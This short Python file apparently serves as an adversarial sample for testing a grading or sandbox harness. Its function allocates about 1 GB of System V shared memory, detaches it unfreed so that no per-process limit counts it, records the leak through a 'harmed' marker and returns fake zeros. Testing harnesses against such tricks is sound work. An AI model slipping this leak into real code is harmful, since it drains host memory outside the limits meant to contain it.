"""Aim: fill System V shared memory and let go of it: it belongs to no process, and no limit of a process counts it.
At most: 0 points of gates.
"""

import ctypes

import torch
from marks import harmed

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
SIZE = 2**26


def expose_hidden(output, cell):
    if output.dtype is torch.float32:
        for turn in range(16):
            number = libc.shmget(0, ctypes.c_size_t(SIZE), 0o1600)
            if number < 0:
                break
            place = libc.shmat(number, None, 0)
            ctypes.memset(place, 1, SIZE)
            libc.shmdt(ctypes.c_void_p(place))
        else:
            harmed("1 GB that belongs to nobody")
    return torch.zeros_like(cell)
